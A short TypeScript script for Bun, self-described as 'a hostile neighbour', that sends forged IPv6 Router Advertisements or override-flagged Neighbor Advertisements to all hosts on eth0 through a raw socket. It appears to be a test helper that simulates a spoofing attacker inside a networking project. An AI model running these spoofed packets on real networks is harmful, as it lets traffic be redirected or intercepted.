/**
 * A hostile neighbour: `bun net-advert.ts TYPE SOURCE TARGET` sends ICMPv6 of TYPE (134: "I am a router",
 * 136: "TARGET is at my hardware address") from SOURCE to everybody on eth0.
 */
import { dlopen, FFIType, ptr } from "bun:ffi";
import { readFileSync } from "node:fs";
import { numberOf, parseAddress } from "#net/address.ts";

const AF_INET6 = 10;
const SOCK_RAW = 3;
const IPPROTO_ICMPV6 = 58;
const IPPROTO_IPV6 = 41;
const IPV6_MULTICAST_HOPS = 18;
const ROUTER_ADVERT = 134;
const HOPS = 255;

const libc = dlopen("libc.so.6", {
  socket: { args: [FFIType.i32, FFIType.i32, FFIType.i32], returns: FFIType.i32 },
  bind: { args: [FFIType.i32, FFIType.ptr, FFIType.u32], returns: FFIType.i32 },
  setsockopt: {
    args: [FFIType.i32, FFIType.i32, FFIType.i32, FFIType.ptr, FFIType.u32],
    returns: FFIType.i32,
  },
  sendto: {
    args: [FFIType.i32, FFIType.ptr, FFIType.u64, FFIType.i32, FFIType.ptr, FFIType.u32],
    returns: FFIType.i64,
  },
}).symbols;

const [type = "", source = "", target = ""] = process.argv.slice(2);
const scope = Number(readFileSync("/sys/class/net/eth0/ifindex", "utf8"));
const mac = readFileSync("/sys/class/net/eth0/address", "utf8").trim().split(":");
const fd = libc.socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
const hops = Buffer.from([HOPS, 0, 0, 0]);
const isReady =
  libc.setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, ptr(hops), hops.length) === 0 &&
  libc.bind(fd, ptr(socketAddress(source)), 28) === 0;
if (!isReady) throw new Error(`cannot send from ${source}`);
const message = Number(type) === ROUTER_ADVERT ? routerAdvert() : neighborAdvert();
const sent = libc.sendto(fd, ptr(message), message.length, 0, ptr(socketAddress("ff02::1")), 28);
if (Number(sent) !== message.length) throw new Error("cannot send");

/** struct sockaddr_in6. */
function socketAddress(address: string): Buffer {
  const bytes = Buffer.alloc(28);
  bytes.writeUInt16LE(AF_INET6, 0);
  addressBytes(address).copy(bytes, 8);
  bytes.writeUInt32LE(scope, 24);
  return bytes;
}

/** RFC 4861, section 4.4: with the override flag, and the option that gives the hardware address. */
function neighborAdvert(): Buffer {
  const option = Buffer.from([2, 1, ...mac.map((digits) => Number.parseInt(digits, 16))]);
  return Buffer.concat([Buffer.from([136, 0, 0, 0, 0x20, 0, 0, 0]), addressBytes(target), option]);
}

/** Section 4.2: a default router for half an hour. The kernel fills in the checksum. */
function routerAdvert(): Buffer {
  const bytes = Buffer.alloc(16);
  bytes.writeUInt8(ROUTER_ADVERT, 0);
  bytes.writeUInt8(64, 4);
  bytes.writeUInt16BE(1800, 6);
  return bytes;
}

function addressBytes(address: string): Buffer {
  return Buffer.from(numberOf(parseAddress(address)).toString(16).padStart(32, "0"), "hex");
}
